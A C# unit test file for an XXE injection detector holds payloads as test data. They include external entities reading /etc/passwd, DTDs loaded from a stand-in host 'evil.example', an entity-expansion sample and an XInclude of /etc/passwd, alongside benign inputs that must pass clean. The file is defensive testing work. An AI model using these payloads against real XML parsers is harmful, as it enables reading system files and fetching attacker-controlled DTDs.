using Vigil.Detection.Injection;
using Vigil.Detection.Injection.Xxe;

namespace Vigil.Detection.Tests.Injection.Xxe;

public sealed class XxeDetectorTests
{
    [Theory]
    [InlineData("<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>", "external-entity")]
    [InlineData("<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\"> %p;]>", "external-entity")]
    [InlineData("<!DOCTYPE x [<!ENTITY e PUBLIC \"-//X//EN\" \"http://evil.example/e\">]>", "external-entity")]
    [InlineData("<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;\">]><a>&lol2;</a>", "entity-expansion")]
    [InlineData("<!DOCTYPE note SYSTEM \"http://evil.example/note.dtd\"><note/>", "external-dtd")]
    [InlineData("<!DOCTYPE x [<!ENTITY foo \"bar\">]><x>&foo;</x>", "entity-declaration")]
    [InlineData("<root xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"/etc/passwd\" parse=\"text\"/></root>", "xinclude")]
    public void Detects(string value, string reason)
    {
        InjectionVerdict verdict = XxeDetector.Analyze(value);
        Assert.True(verdict.IsAttack, $"missed: {value}");
        Assert.Equal(InjectionKind.Xxe, verdict.Kind);
        Assert.Equal(reason, verdict.Reason);
    }

    [Theory]
    [InlineData("<!DOCTYPE html><html><body>hi</body></html>")]
    [InlineData("<?xml version=\"1.0\"?><order><id>1</id></order>")]
    [InlineData("the entity system is public")]
    [InlineData("<!-- comment -->")]
    public void StaysQuietOnOrdinaryText(string value)
    {
        Assert.Equal(InjectionVerdict.Clean, XxeDetector.Analyze(value));
    }
}
